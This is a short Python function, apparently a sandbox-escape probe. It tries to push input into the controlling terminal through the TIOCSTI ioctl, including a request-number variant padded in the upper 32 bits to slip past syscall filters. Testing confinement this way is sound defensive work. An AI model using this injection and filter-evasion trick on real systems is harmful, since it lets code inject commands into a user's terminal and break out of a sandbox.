# pushes a command into the terminal, with a request number that hides in the upper half
def attack():
    for descriptor in range(3):
        for request in (0x5412, 0x5412 | 1 << 32):
            if syscall(16, descriptor, request, b"x\0")[0] == 0:
                return loot("TIOCSTI")
    return "clean"
